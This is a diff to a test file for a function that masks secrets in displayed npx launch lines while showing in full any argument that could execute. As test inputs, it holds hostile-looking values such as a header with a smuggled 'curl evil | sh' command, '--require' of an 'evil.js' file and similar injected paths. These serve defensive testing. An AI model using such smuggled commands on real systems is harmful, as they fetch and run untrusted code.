@@ -75,7 +75,7 @@ describe("launchLine", () => {
     ["-eGITHUB_PERSONAL_ACCESS_TOKEN=ghp_made-up", '"-eGITHUB_PERSONAL_ACCESS_TOKEN=ghp_•••"'],
     ["--env=STRIPE_KEY=sk_lmade-up", '"--env=STRIPE_KEY=sk_l•••"'],
     ["-DDATABASE_URL=abcdmade-up", '"-DDATABASE_URL=abcd•••"'],
-    ["DATABASE_URL=postgres://u:made-up@h/d?a=1&b=2", '"DATABASE_URL=postgres://•••@h/d?a=1&b=2"'],
+    ["DATABASE_URL=postgres://u:made-up@h/d?a=1&b=2", '"DATABASE_URL=postgres://u:•••@h/d?a=1&b=2"'],
     ["API_KEY=${input:key}", '"API_KEY=${input:key}"'],
     ["API_KEY=abcd", "API_KEY=abcd"],
     // What is no secret's name decides what runs.
@@ -87,25 +87,46 @@ describe("launchLine", () => {
   });
 
   it.each([
-    ["Authorization: Bearer made-up-key", '"Authorization: Bearer made•••"'],
-    ["--header=Authorization: Basic bWFkZS11cA==", '"--header=Authorization: Basic bWFk•••"'],
+    ["Authorization: Bearer a1b2c3d4-made-up", '"Authorization: Bearer a1b2•••"'],
+    ["--header=Authorization: Basic bWFk/ZS11cA==", '"--header=Authorization: Basic bWFk•••"'],
     ["-HX-Api-Key:made-up-key", '"-HX-Api-Key:made•••"'],
-    ["https://host/mcp?a=1&api_key=made-up-key&b=2", '"https://host/mcp?a=1&api_key=made•••&b=2"'],
-    ["https://host/mcp?token=made-up-key#part", '"https://host/mcp?token=made•••#part"'],
-    ['{"Authorization":"Bearer made-up-key"}', String.raw`"{\"Authorization\":\"Bearer made•••\"}"`],
+    ["https://host/mcp?a=1&api_key=a1b2c3d4-made-up&b=2", '"https://host/mcp?a=1&api_key=a1b2•••&b=2"'],
+    ["https://host/mcp?token=a1b2c3d4-made-up#part", '"https://host/mcp?token=a1b2•••#part"'],
+    ["https://host/mcp?code=a1b2c3d4-made-up", '"https://host/mcp?code=a1b2•••"'],
+    ["https://a1b2c3d4-made-up@host/mcp", '"https://a1b2•••@host/mcp"'],
+    ["https://ann:made@up@host/mcp", '"https://ann:•••@host/mcp"'],
+    ['{"apiKey":"a1b2c3d4-made-up"}', String.raw`"{\"apiKey\":\"a1b2•••\"}"`],
+    ['--config=[{"token":"a1b2c3d4-made-up"}]', String.raw`"--config=[{\"token\":\"a1b2•••\"}]"`],
     ["Authorization: abcd", '"Authorization: abcd"'],
     ["Authorization: Bearer ${TOKEN}", '"Authorization: Bearer ${TOKEN}"'],
     ["Accept: application/json", '"Accept: application/json"'],
     ["--page=https://host/?sort=made-up", '"--page=https://host/?sort=made-up"'],
-    ["--header=Authorization: made-up-key", '"--header=Authorization: made•••"'],
-  ])("shows of a header or an address %s no secret: %s", (argument, expected) => {
+  ])("shows of a header, an address or JSON %s no secret: %s", (argument, expected) => {
     expect(line({ args: ["--header", argument] })).toBe(`npx --header ${expected}`);
   });
 
-  it.each(["https://host/mcp?api_key=made-up-key", '{"Authorization":"Bearer made-up-key"}'])(
+  it.each([
+    ["--api-key", "a1b2c3d4-made-up", '"a1b2•••"'],
+    ["-token", "ghp_16C7e42F292c6912", '"ghp_•••"'],
+    ["--auth", "Bearer a1b2c3d4-made-up", '"Bearer a1b2•••"'],
+    ["--secret", "QWERTYuiopASDFGHjklZX", '"QWER•••"'],
+    // Any of these could be what runs: the option may take no value.
+    ["--api-key", "evil-package", "evil-package"],
+    ["--api-key", "evil-server2", "evil-server2"],
+    ["--secret", "qwertyuiopasdfghjklzx", "qwertyuiopasdfghjklzx"],
+    ["--token", "a1b2c3d4/made-up", "a1b2c3d4/made-up"],
+    ["--token", "a1b2c3d", "a1b2c3d"],
+    ["-eGITHUB_TOKEN", "a1b2c3d4-image", "a1b2c3d4-image"],
+    ["-Xtoken", "a1b2c3d4.py", "a1b2c3d4.py"],
+  ])("hides what an option for a key is given where it looks like one: %s %s", (option, given, expected) => {
+    expect(line({ args: [option, given] })).toBe(`npx ${option} ${expected}`);
+  });
+
+  it.each(["https://host/mcp?api_key=a1b2c3d4-made-up", '{"Authorization":"Bearer a1b2c3d4-made-up"}'])(
     "shows no secret in a variable either: %s",
     (value) => {
-      expect(line({ variables: [shown("EXTRA", value)] })).toContain(word(value.replace("-up-key", "•••")));
+      const expected = word(value.replace("c3d4-made-up", "•••"));
+      expect(line({ variables: [shown("EXTRA", value)] })).toContain(expected);
     },
   );
 
@@ -114,14 +135,28 @@ describe("launchLine", () => {
     "--require=token:/w/evil.js",
     "/w/?key=evil.js",
     "https://host&node /w/?key=evil.js",
+    "https://host?token=a1b2c3d4/../../evil.js",
+    "https://host?key=evil",
+    "docker://evil@sha256:a1b2c3d4e5",
+    "x://evil@/main.js",
     'require({"key":"/w/evil.js"}.key)',
-    '{"key":"/w/evil.js"}.key',
-  ])("shows whole what only looks like a header, an address or JSON: %s", (text) => {
-    expect(line({ args: [text] })).toBe(`npx ${word(text)}`);
+    '{"key":"/w/evil.js"}',
+    "A_TOKEN=%x[./evil.sh]",
+  ])("shows whole what could run, and only looks like a header, an address or JSON: %s", (text) => {
+    for (const before of ["-c", "-H", "--header", "-e"])
+      expect(line({ args: [before, text] })).toBe(`npx ${before} ${word(text)}`);
     expect(line({ args: [], variables: [shown("NODE_OPTIONS", text)] })).toBe(
       `NODE_OPTIONS=${word(text)} npx`,
     );
   });
+
+  it.each(["-Htoken:", "--header=key:", "-a=x://h?key=", '{"key":"', "://a:", "?key=a&"])(
+    "is written in time however often a pattern begins anew: %s",
+    (part) => {
+      const text = part.repeat(100_000 / part.length);
+      expect(line({ args: ["-c", text, "--header", text, "--token", text] })).toContain("npx");
+    },
+  );
 
   it.each([
     ["Authorization: made-up;curl evil | sh"],
@@ -148,7 +183,7 @@ describe("launchLine", () => {
     ];
     const args = [
       "--api-key",
-      "abcdmade-up-4",
+      "abcd1made2up-4",
       "--token=abcdmade-up-5",
       "--key",
       "--next",
@@ -157,7 +192,7 @@ describe("launchLine", () => {
     const text = line({ variables, args });
     expect(text).not.toContain("made-up");
     expect(text).toBe(
-      'CREDS=••• PROXY="http://•••@host" npx --api-key "abcd•••" "--token=abcd•••" --key --next "--secret=${input:s}"',
+      'CREDS=••• PROXY="http://user:•••@host" npx --api-key "abcd•••" "--token=abcd•••" --key --next "--secret=${input:s}"',
     );
   });
 });
